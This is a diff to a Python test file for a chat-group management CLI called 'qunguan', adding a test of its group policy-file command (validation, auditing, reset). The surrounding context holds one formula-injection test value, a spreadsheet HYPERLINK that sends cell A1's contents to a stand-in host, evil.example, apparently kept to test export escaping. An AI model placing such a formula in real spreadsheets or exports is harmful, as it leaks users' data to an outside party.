@@ -27,6 +27,7 @@ from storage import registry
 from storage.audit import GENESIS
 from tests.conftest import PG_ENV
 
+PROJECT = Path(__file__).resolve().parents[2]
 SHANGHAI = ZoneInfo("Asia/Shanghai")
 SHANGHAI_OFFSET = "+08:00"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
@@ -428,3 +429,44 @@ def test_main_unmigrated_database(tmp_path: Path) -> None:
     assert proc.returncode == 1
     assert proc.stdout == ""
     assert proc.stderr.splitlines() == ["qunguan: 数据库尚未初始化：请先运行 qunguan db upgrade"]
+
+
+async def test_group_policy_file(rt, tmp_path: Path, database_url: str) -> None:
+    """`qunguan groups policy G FILE` validates the file, stores it, audits; --default resets."""
+    import shutil
+
+    from storage import audit as audit_store
+
+    async with rt.sessions() as s:
+        await registry.ensure_group(s, "qq:1", "qq", "工作群", rt.now())
+    cfg = _config(tmp_path, database_url)
+    shutil.copytree(PROJECT / "policies", tmp_path / "policies")
+    strict = tmp_path / "policies" / "strict.toml"
+    strict.write_text(
+        (tmp_path / "policies" / "default.toml")
+        .read_text("utf-8")
+        .replace('version = "', 'version = "strict-', 1),
+        "utf-8",
+    )
+    broken = tmp_path / "policies" / "broken.toml"
+    broken.write_text("version = \n", "utf-8")
+
+    result = await _invoke(cfg, "groups", "policy", "qq:1", "policies/broken.toml")
+    assert result.exit_code != 0
+    assert "策略文件不可用" in result.output
+    result = await _invoke(cfg, "groups", "policy", "qq:1", "policies/strict.toml")
+    assert result.exit_code == 0, result.output
+    async with rt.sessions() as s:
+        assert (await registry.get_group(s, "qq:1")).policy_file == "policies/strict.toml"
+        entries = await audit_store.query(s, kind="policy.changed")
+    assert entries[-1].group == "qq:1"
+    assert entries[-1].detail["version"].startswith("strict-")
+    result = await _invoke(cfg, "groups", "policy", "qq:1")
+    assert "policies/strict.toml" in result.output
+    result = await _invoke(cfg, "groups", "policy", "qq:1", "--default")
+    assert result.exit_code == 0
+    async with rt.sessions() as s:
+        assert (await registry.get_group(s, "qq:1")).policy_file is None
+    result = await _invoke(cfg, "groups", "policy", "qq:404", "--default")
+    assert result.exit_code != 0
+    assert "未找到群 qq:404" in result.output
